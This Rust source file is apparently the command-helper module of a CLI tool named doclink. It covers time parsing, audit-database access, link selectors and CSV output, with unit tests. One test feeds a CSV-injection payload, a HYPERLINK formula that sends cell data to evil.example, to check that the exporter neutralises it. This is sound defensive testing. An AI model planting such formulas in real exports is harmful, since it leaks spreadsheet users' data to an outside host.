pub mod audit;
pub mod daemon;
pub mod doctor;
pub mod keys;
pub mod links;
pub mod rejections;
pub mod revocations;
pub mod settings;
pub mod sign;
pub mod table;
pub mod verify;

use crate::Failure;
use chrono::{DateTime, Utc};
use doclink::audit::{Actor, AuditLog, DocumentMatch, LinkSelector};
use std::io::Write;

/// The current Unix time in seconds.
pub fn now_epoch() -> i64 {
    chrono::Utc::now().timestamp()
}

/// A point in time on the command line: RFC 3339 (`2026-11-28T09:00:00Z`), what
/// `psql` prints for a timestamp (`2026-12-06 00:07:00`, `2026-12-06 00:07:00.123456+00`,
/// `+05:30`; without an offset, UTC), a date (`2026-11-28`, midnight UTC), or a
/// duration ago (`7d`, `36h`).
pub fn parse_time(text: &str) -> Result<DateTime<Utc>, String> {
    let given = text.trim();
    if let Ok(t) = DateTime::parse_from_rfc3339(given) {
        return Ok(t.with_timezone(&Utc));
    }
    // psql's `2026-12-06 00:07:00.123456+00`; `%.f` takes the fraction when there is
    // one, `%#z` an offset of hours alone or hours and minutes.
    for format in ["%Y-%m-%d %H:%M:%S%.f%#z", "%Y-%m-%dT%H:%M:%S%.f%#z"] {
        if let Ok(t) = DateTime::parse_from_str(given, format) {
            return Ok(t.with_timezone(&Utc));
        }
    }
    for format in ["%Y-%m-%d %H:%M:%S%.f", "%Y-%m-%dT%H:%M:%S%.f"] {
        if let Ok(t) = chrono::NaiveDateTime::parse_from_str(given, format) {
            return Ok(t.and_utc());
        }
    }
    if let Ok(day) = chrono::NaiveDate::parse_from_str(given, "%Y-%m-%d") {
        return Ok(day.and_hms_opt(0, 0, 0).expect("midnight").and_utc());
    }
    if let Ok(ago) = doclink::duration::parse_duration(given) {
        return Ok(Utc::now() - chrono::Duration::seconds(ago.as_secs() as i64));
    }
    Err(format!(
        "{text:?} is not a time: use 2026-11-28T09:00:00Z, 2026-11-28 09:00:00 (as psql prints it, \
         offset and fraction optional; UTC without one), 2026-11-28, or a duration ago such as 7d"
    ))
}

/// The audit database, for the commands that read or change it. It must be migrated
/// already: these commands never change the schema (see `audit::check_migrated`).
pub fn open_audit(
    runtime: &tokio::runtime::Runtime,
    database_url: &str,
) -> Result<AuditLog, Failure> {
    runtime.block_on(async {
        // One direct attempt first: a database that is down is named at once, with
        // its host and port and why, not after the pool's 10 s as "pool timed out".
        if let Ok(options) = database_url.parse::<sqlx::postgres::PgConnectOptions>() {
            doclink::audit::reach(&options)
                .await
                .map_err(|e| Failure::Unavailable(e.into()))?;
        }
        let pool = doclink::audit::connect(database_url, 2)
            .await
            .map_err(|e| {
                Failure::Unavailable(
                    anyhow::Error::new(e).context("cannot open the audit database"),
                )
            })?;
        doclink::audit::check_migrated(&pool).await.map_err(|e| {
            Failure::Unavailable(anyhow::Error::new(e).context("cannot use the audit database"))
        })?;
        Ok(AuditLog::new(pool, 2))
    })
}

/// A one-thread runtime for a command.
pub fn command_runtime() -> Result<tokio::runtime::Runtime, Failure> {
    tokio::runtime::Builder::new_current_thread()
        .enable_all()
        .build()
        .map_err(|e| {
            Failure::Unavailable(anyhow::Error::new(e).context("cannot start the async runtime"))
        })
}

/// Writes to stdout; a reader that went away (`| head`) ends the command quietly.
pub struct Stdout(std::io::BufWriter<std::io::StdoutLock<'static>>);

/// Raised when stdout's reader went away; the command ends with success.
pub struct ReaderGone;

impl Stdout {
    pub fn new() -> Self {
        Self(std::io::BufWriter::new(std::io::stdout().lock()))
    }

    pub fn line(&mut self, text: &str) -> Result<(), ReaderGone> {
        self.0
            .write_all(text.as_bytes())
            .and_then(|()| self.0.write_all(b"\n"))
            .map_err(|_| ReaderGone)
    }

    pub fn flush(&mut self) -> Result<(), ReaderGone> {
        self.0.flush().map_err(|_| ReaderGone)
    }
}

impl From<ReaderGone> for Failure {
    fn from(_: ReaderGone) -> Self {
        // Nothing more can be shown; like `grep | head`, that is not an error.
        std::process::exit(0)
    }
}

/// Who did it, and on which host: `--by`, else `$USER` or `$LOGNAME`, else the
/// operating system's name for this process's user (containers and cron set no
/// `$USER`), else `uid N`.
pub fn who(by: Option<String>) -> Actor {
    let given = |name: Option<String>| name.filter(|name| !name.trim().is_empty());
    let name = given(by)
        .or_else(|| given(std::env::var("USER").ok()))
        .or_else(|| given(std::env::var("LOGNAME").ok()))
        .unwrap_or_else(os_user_name);
    Actor {
        name: name.trim().to_string(),
        host: doclink::audit::host_name(),
    }
}

/// This process's real user, by name from the password database (`/etc/passwd`),
/// or `uid N` when it has none there.
fn os_user_name() -> String {
    let Some(uid) = std::fs::read_to_string("/proc/self/status")
        .ok()
        .and_then(|status| {
            status
                .lines()
                .find_map(|line| line.strip_prefix("Uid:"))
                .and_then(|ids| ids.split_whitespace().next())
                .map(str::to_string)
        })
    else {
        return "unknown".into();
    };
    std::fs::read_to_string("/etc/passwd")
        .ok()
        .and_then(|passwd| {
            passwd.lines().find_map(|entry| {
                let mut fields = entry.split(':');
                let name = fields.next()?;
                (fields.nth(1)? == uid && !name.is_empty()).then(|| name.to_string())
            })
        })
        .unwrap_or_else(|| format!("uid {uid}"))
}

// The options that choose links, shared by `links list`, `links revoke`,
// `links purge` and `revocations export`: one parser, one meaning. Every option
// given must hold. (A plain comment: a doc comment here would become the about
// text of every command that flattens this.)
#[derive(clap::Args, Debug, Clone, Default)]
pub struct SelectorArgs {
    /// Links to this recipient address (any case).
    #[arg(long, value_name = "EMAIL")]
    pub recipient: Option<String>,
    /// Links to this document key, or to every key that starts with a prefix ending
    /// in '*' (e.g. 'letters/2026/*').
    #[arg(long, value_name = "KEY", value_parser = DocumentMatch::parse)]
    pub document: Option<DocumentMatch>,
    /// The link of this producer's event id.
    #[arg(long, value_name = "ID")]
    pub event: Option<String>,
    /// Links signed with this CloudFront key-pair id: any of their signatures (the
    /// first, or any retry's).
    #[arg(long, value_name = "ID")]
    pub key_pair_id: Option<String>,
}

impl SelectorArgs {
    /// The selection, with a link id when the command takes one.
    pub fn selector(self, link_id: Option<uuid::Uuid>) -> LinkSelector {
        LinkSelector {
            link_id,
            recipient: self.recipient,
            document: self.document,
            event_id: self.event,
            key_pair_id: self.key_pair_id,
        }
    }
}

/// What a command that changes the selected links (`links revoke`, `links purge`)
/// says, on stderr, when they are none (exit 1): a selection that matches nothing is
/// most likely a typo, and must not read as success.
pub fn no_link_matches(selector: &LinkSelector) -> Failure {
    eprintln!(
        "doclink: no link matches {}; nothing was changed",
        selector.describe()
    );
    Failure::Work
}

/// RFC 3339 in UTC to the second, or empty: for tables and messages, read by people.
pub fn time(t: Option<DateTime<Utc>>) -> String {
    t.map(|t| t.format("%Y-%m-%dT%H:%M:%SZ").to_string())
        .unwrap_or_default()
}

/// RFC 3339 in UTC to the microsecond, or empty: for CSV, as JSON has it
/// ([`doclink::audit::exact_time`]).
pub fn exact_time(t: Option<DateTime<Utc>>) -> String {
    t.map(doclink::audit::exact_time).unwrap_or_default()
}

/// One CSV line of `cells`, each through [`csv_field`].
pub fn csv_line(cells: &[&str]) -> String {
    cells
        .iter()
        .map(|c| csv_field(c))
        .collect::<Vec<_>>()
        .join(",")
}

/// A CSV field, quoted when it needs to be (RFC 4180). A cell a spreadsheet would
/// read as a formula (one beginning with `=`, `+`, `-`, `@`, a tab or a CR) gets a
/// leading `'`, as OWASP advises against CSV injection: an event id such as
/// `=HYPERLINK(...)` must reach an auditor's spreadsheet as text.
pub fn csv_field(text: &str) -> String {
    let neutralised;
    let text = if text.starts_with(['=', '+', '-', '@', '\t', '\r']) {
        neutralised = format!("'{text}");
        neutralised.as_str()
    } else {
        text
    };
    if text.contains([',', '"', '\n', '\r']) {
        format!("\"{}\"", text.replace('"', "\"\""))
    } else {
        text.to_string()
    }
}

#[cfg(test)]
mod tests {
    use super::{csv_field, parse_time};

    #[test]
    fn times_as_psql_prints_them() {
        let at = |text: &str| parse_time(text).map(|t| t.to_rfc3339());
        let seven = Ok("2026-12-06T00:07:00+00:00".to_string());
        assert_eq!(at("2026-12-06 00:07:00"), seven);
        assert_eq!(at("2026-12-06 00:07:00+00"), seven);
        assert_eq!(at("2026-12-06 01:07:00+01"), seven);
        assert_eq!(at("2026-12-06 05:37:00+05:30"), seven);
        assert_eq!(at("2026-12-06T00:07:00Z"), seven);
        assert_eq!(at("2026-12-06T00:07:00"), seven);
        assert_eq!(
            at("2026-12-06 00:07:00.123456+00"),
            Ok("2026-12-06T00:07:00.123456+00:00".to_string())
        );
        assert_eq!(
            at("2026-12-06 00:07:00.5"),
            Ok("2026-12-06T00:07:00.500+00:00".to_string())
        );
        assert_eq!(
            at("2026-12-06"),
            Ok("2026-12-06T00:00:00+00:00".to_string())
        );
        assert!(at("2026-12-06 25:07:00").is_err());
        assert!(at("yesterday").is_err());
    }

    #[test]
    fn csv_cells_that_would_be_formulas_are_neutralised() {
        assert_eq!(
            csv_field(r#"=HYPERLINK("https://evil.example/?d="&D3,"Click")"#),
            r#""'=HYPERLINK(""https://evil.example/?d=""&D3,""Click"")""#
        );
        assert_eq!(csv_field("+1"), "'+1");
        assert_eq!(csv_field("-2+3"), "'-2+3");
        assert_eq!(csv_field("@SUM(A1)"), "'@SUM(A1)");
        assert_eq!(csv_field("\t=1"), "'\t=1");
        assert_eq!(csv_field("\r=1"), "\"'\r=1\"");
        // Ordinary cells are unchanged; a formula character later in a cell is harmless.
        assert_eq!(csv_field("decisions/a-b.pdf"), "decisions/a-b.pdf");
        assert_eq!(csv_field("a=b"), "a=b");
        assert_eq!(csv_field("a,b"), "\"a,b\"");
        assert_eq!(csv_field(""), "");
    }
}
